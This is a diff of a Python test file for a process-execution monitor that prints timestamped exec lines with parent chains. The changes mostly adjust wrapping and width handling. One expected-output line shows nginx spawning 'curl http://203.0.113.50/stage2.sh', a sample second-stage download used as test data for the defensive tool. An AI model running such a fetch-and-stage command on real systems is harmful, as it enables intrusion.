@@ -6,6 +6,7 @@ import io
 import re
 
 import pytest
+from rich.cells import cell_len
 from rich.console import Console
 
 from pipeline.counters import Counters
@@ -71,7 +72,7 @@ def test_a_line_has_time_pid_user_chain_and_command_in_a_pipe() -> None:
     assert rest == "systemd → nginx → curl   curl http://203.0.113.50/stage2.sh"
 
 
-@pytest.mark.parametrize("width", [None, 60])
+@pytest.mark.parametrize("width", [None, 120])
 @pytest.mark.parametrize(("doubt", "mark"), [(("loss", "snapshot"), " ?"), (("cut", "snapshot"), ""), ((), "")])
 def test_a_chain_that_may_not_be_the_whole_truth_has_a_question_mark(
     doubt: tuple[str, ...], mark: str, width: int | None
@@ -94,15 +95,41 @@ def test_what_could_steer_a_terminal_is_escaped() -> None:
     assert r"\x1b[2Jgone\nforged [red]line[/red]" in line
 
 
-def test_a_terminal_gets_one_line_an_exec_however_long_the_command() -> None:
-    lines, _ = _printed(("curl", "x" * 500), ("curl", "y" * 500), terminal=True, width=80)
+LONG = ("containerd-shim-runc-v2", "nginx", "nginx", "supervisor", "bash", "make", "sh")
+
+
+def test_a_wide_terminal_gets_one_line_an_exec_however_long_the_command() -> None:
+    lines, _ = _printed(("curl", "x" * 500), ("curl", "y" * 500), terminal=True, width=120)
     assert len(lines) == 2
 
 
-def test_a_chain_that_has_room_on_a_terminal_is_whole() -> None:
-    (line,), _ = _printed(("curl",), above=("nginx", "worker", "handler"), terminal=True, width=80)
-    assert re.fullmatch(r"\d\d:\d\d:\d\d\.\d{3}", line.split()[0])
-    assert line.split(maxsplit=3)[3] == "systemd → nginx → worker → handler → curl   curl"
+def test_on_80_columns_the_chain_is_below_the_command_with_its_root_and_last_three() -> None:
+    lines, _ = _printed(("curl", "x" * 500), ("curl", "-V"), above=LONG, terminal=True, width=80)
+    assert len(lines) == 4
+    assert all(cell_len(line) <= 80 for line in lines)
+    first, chain, second, _ = lines
+    assert re.fullmatch(r"\d\d:\d\d:\d\d\.\d{3} +\d+ root +curl x+…", first)
+    assert re.fullmatch(r" +systemd → … → .*bash → make → sh → curl", chain)
+    assert second.endswith(" root       curl -V")
+
+
+@pytest.mark.parametrize("width", [20, 40, 79])
+def test_a_chain_below_its_command_fits_with_its_mark(width: int) -> None:
+    ((event, process),) = _execs(("curl",), above=LONG)
+    text = _feed(Console(file=io.StringIO()), Counters()).line(event, process._replace(doubt=("loss",)), width)
+    head, chain = text.plain.split("\n")
+    assert cell_len(head) <= width
+    assert cell_len(chain) <= width
+    assert chain.endswith(" ?")
+
+
+@pytest.mark.parametrize("width", [80, 120])
+def test_a_chain_that_has_room_on_a_terminal_is_whole(width: int) -> None:
+    lines, _ = _printed(("curl",), above=("nginx", "worker", "handler"), terminal=True, width=width)
+    assert re.fullmatch(r"\d\d:\d\d:\d\d\.\d{3}", lines[0].split()[0])
+    shown = [line[13:].strip() if line.startswith(" ") else line.split(maxsplit=3)[3].strip() for line in lines]
+    chain = "systemd → nginx → worker → handler → curl"
+    assert shown == (["curl", chain] if width == 80 else [f"{chain}   curl"])
 
 
 def test_more_than_a_person_reads_is_left_out_said_and_counted() -> None:
